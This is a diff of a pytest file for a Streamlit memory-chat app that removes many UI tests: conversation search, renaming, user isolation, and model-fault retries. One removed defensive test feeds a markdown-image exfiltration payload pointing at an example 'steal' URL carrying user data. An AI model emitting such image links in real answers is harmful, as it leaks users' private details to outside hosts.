@@ -2,33 +2,21 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
-
 import pytest
 from streamlit.testing.v1 import AppTest
-from support.model_server import Fault, ModelServer
-from support.web.app_page import APP, PATIENCE, become, everything, open_tab, press, say, talk, unfold
+from support.web.app_page import APP, PATIENCE, everything, press, say, talk, unfold
 
+from interfaces.ui.pages.chat import keys
 from memary import ChatAgent
 from memary.interfaces.ui.answer_run import noted
 from memary.interfaces.ui.safe_text import escaped
 from memary.interfaces.ui.shared_memory import open_memory
-from memary.types import Action, utc_now
+from memary.types import Action
 
 pytestmark = [
     pytest.mark.timeout(300),
     pytest.mark.filterwarnings(r"ignore:WorkflowHandler\.done\(\) is deprecated:DeprecationWarning"),
 ]
-
-
-def keys(page: AppTest) -> set[str | None]:
-    """The keys of all buttons."""
-    return {button.key for button in page.button}
-
-
-def stored() -> list[str]:
-    """What memory holds of the talk."""
-    return [message.content for message in open_memory().messages.list(user_id=open_memory().settings.user)]
 
 
 def say_and_read(page: AppTest, *texts: str) -> None:
@@ -301,40 +289,6 @@ def test_a_message_is_shown_on_the_clock_of_its_own_time(
     assert all(f"2026-03-02 {shown}" in caption for caption in told)
 
 
-def test_a_conversation_is_called_after_its_first_message_at_once(page: AppTest) -> None:
-    page.run()
-    say(page, "I live in Berlin.")
-    box = page.selectbox[1]
-    assert box.options[0].endswith("I live in Berlin.")
-    assert (box.proto.set_value, box.proto.raw_value) == (True, box.options[0])
-
-
-def test_counters_and_entities_follow_the_talk(page: AppTest) -> None:
-    page.run()
-    say(page, "I live in Berlin.")
-    open_memory().flush()
-    page.run()
-    counts = {metric.label: metric.value for metric in page.metric}
-    assert counts == {"Messages": "2", "Facts": "1", "Pending": "0", "Failed": "0"}
-    chip = next(button for button in page.sidebar.button if button.label == "Berlin · 1")
-    chip.click().run()
-    assert page.session_state["visit"].page == "graph"
-    assert [str(header.value) for header in page.header] == ["Berlin"]
-
-
-def test_what_comes_up_most_stands_first_however_long_ago(page: AppTest) -> None:
-    page.run()
-    said = [("We flew to Berlin.", "2020-01-01T09:00:00Z"), ("We walked in Berlin.", "2020-01-02T09:00:00Z")]
-    said.append(("We flew to Lisbon.", utc_now().isoformat()))
-    user = open_memory().settings.user
-    for content, at in said:
-        open_memory().add({"content": content, "created_at": at}, user_id=user)
-    open_memory().flush()
-    page.run()
-    chips = [button.label for button in page.sidebar.button]
-    assert chips.index("Berlin · 2") < chips.index("Lisbon · 1")
-
-
 def test_an_example_starts_the_talk(page: AppTest) -> None:
     page.run()
     press(page, "example-0")
@@ -344,159 +298,6 @@ def test_an_example_starts_the_talk(page: AppTest) -> None:
     learnt = {fact.statement for fact in memory.facts.list(user_id=memory.settings.user)}
     assert learnt == {"User lives in Berlin.", "User's sister is Mia."}, "all of it is read, also without a model"
     assert len(talk(page)) == 2
-
-
-def test_a_conversation_comes_back_from_memory_for_a_new_visitor(page: AppTest) -> None:
-    page.run()
-    say(page, "I live in Berlin.")
-    again = AppTest.from_file(APP, default_timeout=PATIENCE).run()
-    assert talk(again) == talk(page)
-    assert "Show in the graph" in everything(again)
-
-
-def test_a_new_conversation_is_empty_and_the_old_one_can_be_chosen_again(page: AppTest) -> None:
-    page.run()
-    say(page, "I live in Berlin.")
-    old = page.selectbox[1].value
-    press(page, "new-conversation")
-    assert talk(page) == []
-    page.selectbox[1].set_value(old).run()
-    assert talk(page)[0] == "I live in Berlin."
-
-
-def test_conversations_are_searched_opened_and_forgotten_after_a_manifest(page: AppTest) -> None:
-    page.run()
-    memory, user = open_memory(), open_memory().settings.user
-    for session, text in (("s1", "The otter slept under the bridge."), ("s2", "I like tea.")):
-        memory.add(text, user_id=user, session_id=session, infer=False)
-    page.session_state["conversations"] = True
-    page.run()
-    page.text_input(key=f"search-talk {user}").set_value("otter").run()
-    press(page, next(str(one.key) for one in page.button if str(one.key).startswith("open-talk-")))
-    assert talk(page) == ["The otter slept under the bridge."]
-    assert dict(page.query_params) == {"session": "s1"}
-    page.session_state["conversations"] = True
-    page.run()
-    page.checkbox(key="sure-talk s1").check().run()
-    press(page, "forget-talk")
-    assert not page.exception
-    assert [session for session, _, _ in memory.sessions.list(user_id=user)] == ["s2"]
-    assert talk(page) == ["I like tea."]
-
-
-@pytest.mark.parametrize(
-    ("said", "moved", "over"),
-    [
-        ("I live in Rome and like tea.", "I moved to Oslo.", "over since 2026-05-04: User lives in Rome; now: "),
-        ("我住在成都，喜欢喝茶。", "我搬到了重庆。", "over since 2026-05-04: 用户居住在成都; now: "),
-    ],
-)
-def test_a_message_found_in_conversations_says_what_of_it_is_over(
-    page: AppTest, said: str, moved: str, over: str
-) -> None:
-    page.run()
-    memory, user = open_memory(), open_memory().settings.user
-    for day, text in ((1, said), (4, moved)):
-        message = {"role": "user", "content": text, "created_at": f"2026-05-0{day}T09:00:00Z"}
-        memory.add(message, user_id=user, session_id="s1", wait=True)
-    page.session_state["conversations"] = True
-    page.run()
-    page.text_input(key=f"search-talk {user}").set_value(said[:-1]).run()
-    marked = [one.value.replace("\\", "") for one in page.caption if "over since" in one.value]
-    assert len(marked) == 1
-    assert marked[0].startswith(over)
-
-
-@pytest.mark.parametrize(
-    ("told", "question", "known"),
-    [
-        (("I live in Rome and like tea.", "I moved to Oslo."), "What do you know about me?", "User lives in Oslo"),
-        (("我住在成都。", "我搬到了重庆。"), "你知道我什么？", "用户居住在重庆"),
-    ],
-)
-def test_who_asks_what_is_known_of_them_gets_their_profile_as_it_is_now(
-    page: AppTest, told: tuple[str, str], question: str, known: str
-) -> None:
-    page.run()
-    for text in (*told, question):
-        say(page, text)
-        open_memory().flush()
-    page.run()
-    card = "\n".join(str(one.value) for one in page.markdown if str(one.value).startswith("- "))
-    assert known in card
-    assert "Rome" not in card
-    assert "成都" not in card
-    press(page, "whole-profile")
-    assert not page.exception
-    assert page.session_state["knowledge-view"] == "profile"
-    assert dict(page.query_params)["tab"] == "knowledge"
-
-
-def test_conversations_with_the_words_that_were_typed_are_found_first(page: AppTest) -> None:
-    page.run()
-    memory, user = open_memory(), open_memory().settings.user
-    told = ("My sister is called Mia.", "Mia lives in Graz.", "Mia is a nurse.", "We met in Graz last year.")
-    for number, text in enumerate(told):
-        memory.add(text, user_id=user, session_id=f"s{number}", wait=True)
-    page.session_state["conversations"] = True
-    page.run()
-    page.text_input(key=f"search-talk {user}").set_value("graz").run()
-    found = [one.label for one in page.button if str(one.key).startswith("open-talk-")]
-    assert ["Graz" in label for label in found] == sorted(["Graz" in label for label in found], reverse=True)
-    assert sum("Graz" in label for label in found) == 2
-
-
-def test_a_conversation_is_renamed_and_called_so_wherever_it_is_named(page: AppTest) -> None:
-    page.run()
-    memory, user = open_memory(), open_memory().settings.user
-    memory.add("I live in Graz.", user_id=user, session_id="s1", wait=True)
-    page.run()
-    page.selectbox[1].set_value("s1").run()
-    page.session_state["conversations"] = True
-    page.run()
-    page.text_input(key="title of s1").set_value("Moving house")
-    press(page, "rename")
-    assert not page.exception
-    assert "Moving house" in page.selectbox[1].options
-    assert memory.sessions.titles(user_id=user) == {"s1": "Moving house"}
-    open_tab(page, "Facts")
-    assert page.selectbox(key=f"facts-session {user}").options == ["Moving house"]
-
-
-def test_an_address_leads_to_a_tab_an_entity_and_a_fact_of_the_user_alone(page: AppTest) -> None:
-    page.run()
-    memory, user = open_memory(), open_memory().settings.user
-    memory.facts.add([{"subject": "Vida", "predicate": "lives_in", "object": "Graz"}], user_id=user)
-    (fact,) = memory.facts.list(user_id=user)
-    guest = AppTest.from_file(APP, default_timeout=PATIENCE)
-    guest.query_params.update({"entity": "vida", "fact": fact.id})
-    guest.run()
-    assert guest.session_state["visit"].page == "graph"
-    assert "Vida" in [str(header.value) for header in guest.header]
-    assert escaped(fact.statement) in [str(header.value) for header in guest.header]
-    stranger = AppTest.from_file(APP, default_timeout=PATIENCE)
-    stranger.query_params.update({"user": "bo", "tab": "facts", "fact": fact.id})
-    stranger.run()
-    assert stranger.session_state["visit"].page == "facts"
-    assert escaped(fact.statement) not in everything(stranger)
-    assert not stranger.exception
-
-
-def test_another_user_sees_nothing_of_the_first(page: AppTest) -> None:
-    page.run()
-    for user in ("ada", "bo"):
-        open_memory().add("Hello.", user_id=user, infer=False)
-    page.run()
-    become(page, "ada")
-    say(page, "I live in Reykjavik.")
-    open_memory().flush()
-    become(page, "bo")
-    assert not page.exception
-    assert "Reykjavik" not in everything(page)
-    say(page, "Where do I live?")
-    assert "Reykjavik" not in everything(page)
-    become(page, "ada")
-    assert talk(page)[0] == "I live in Reykjavik."
 
 
 def test_the_page_speaks_chinese(page: AppTest) -> None:
@@ -544,101 +345,6 @@ def test_a_wrong_setting_is_named_until_it_is_mended(page: AppTest, monkeypatch:
     monkeypatch.delenv("MEMARY_BASE_URL")
     press(page, "try-again")
     assert not page.error
-
-
-@pytest.fixture
-def model(monkeypatch: pytest.MonkeyPatch) -> Iterator[ModelServer]:
-    """A model server that the page is set up to use.
-
-    It finds no facts.
-    """
-    with ModelServer(api_key="right") as server:
-        server.when(lambda body: "JSON" in str(body["messages"][0]["content"])[:200], '{"entities": [], "facts": []}')
-        monkeypatch.setenv("MEMARY_BASE_URL", server.base_url)
-        monkeypatch.setenv("MEMARY_MODEL", "scripted")
-        monkeypatch.setenv("OPENAI_API_KEY", "right")
-        monkeypatch.setenv("MEMARY_MAX_RETRIES", "0")
-        yield server
-        open_memory().close()
-
-
-def test_a_model_answers_with_its_tokens_beneath(page: AppTest, model: ModelServer) -> None:
-    model.respond("Thought: I can answer now.\nAnswer: You live in **Berlin**.")
-    page.run()
-    assert "scripted" in everything(page)
-    assert "OFFLINE" not in everything(page)
-    say(page, "Where do I live?")
-    assert talk(page) == ["Where do I live?", "You live in **Berlin**."]
-    unfold(page, "steps")
-    assert any("tokens read" in str(caption.value) for caption in page.chat_message[-1].caption)
-
-
-def test_what_only_streamlit_would_colour_is_shown_as_the_model_wrote_it(page: AppTest, model: ModelServer) -> None:
-    model.respond("Thought: done\nAnswer: **So** :red[hot], `:red[code]`")
-    page.run()
-    say(page, "Where do I live?")
-    assert talk(page)[-1] == r"**So** \:red[hot], `:red[code]`"
-
-
-def test_a_picture_in_an_answer_is_not_loaded(page: AppTest, model: ModelServer) -> None:
-    model.respond("Thought: done\nAnswer: ![x](https://example.com/steal?what=Berlin)")
-    page.run()
-    say(page, "Where do I live?")
-    assert "![" not in talk(page)[-1]
-
-
-@pytest.mark.parametrize(
-    ("fault", "remedy"),
-    [(Fault.status(401, message="Incorrect API key."), "KEY"), (Fault.reset(), "try again")],
-    ids=["wrong key", "dead server"],
-)
-def test_a_model_that_fails_leaves_the_question_to_be_sent_again(
-    page: AppTest, model: ModelServer, fault: Fault, remedy: str
-) -> None:
-    model.respond(fault)
-    page.run()
-    say(page, "Where do I live?")
-    assert not page.exception
-    assert len(page.error) == 1
-    assert remedy in page.error[0].value.replace("\\", "")
-    assert talk(page) == ["Where do I live?"]
-    model.respond("Thought: done\nAnswer: In Berlin.")
-    press(page, "ask-again")
-    assert not page.error
-    assert talk(page) == ["Where do I live?", "In Berlin."]
-    assert stored() == ["Where do I live?", "In Berlin."]
-    assert "ask-again" not in keys(page)
-
-
-def test_a_question_without_an_answer_can_be_sent_again_by_a_later_visitor(page: AppTest, model: ModelServer) -> None:
-    model.respond(Fault.reset())
-    page.run()
-    say(page, "Where do I live?")
-    model.respond(Fault.reset())
-    press(page, "ask-again")
-    again = AppTest.from_file(APP, default_timeout=PATIENCE).run()
-    assert not again.error
-    assert again.button(key="ask-again").label == "Send again"
-    model.respond("Thought: done\nAnswer: In Berlin.")
-    press(again, "ask-again")
-    assert talk(again) == ["Where do I live?", "In Berlin."]
-    assert stored() == ["Where do I live?", "In Berlin."]
-    page.run()
-    assert "ask-again" not in keys(page)
-
-
-def test_another_question_may_follow_one_that_failed(page: AppTest, model: ModelServer) -> None:
-    page.run()
-    model.respond(Fault.reset())
-    say(page, "Where do I live?")
-    model.respond("Thought: done\nAnswer: Ada.")
-    say(page, "Who am I?")
-    assert talk(page) == ["Where do I live?", "Who am I?", "Ada."]
-    assert "ask-again" not in keys(page)
-    model.respond(Fault.reset())
-    say(page, "How old am I?")
-    assert page.button(key="ask-again").label == "Send again"
-    assert stored() == ["Where do I live?", "Who am I?", "Ada.", "How old am I?"]
 
 
 def test_while_an_answer_is_written_elsewhere_nothing_can_be_sent_again(page: AppTest) -> None:
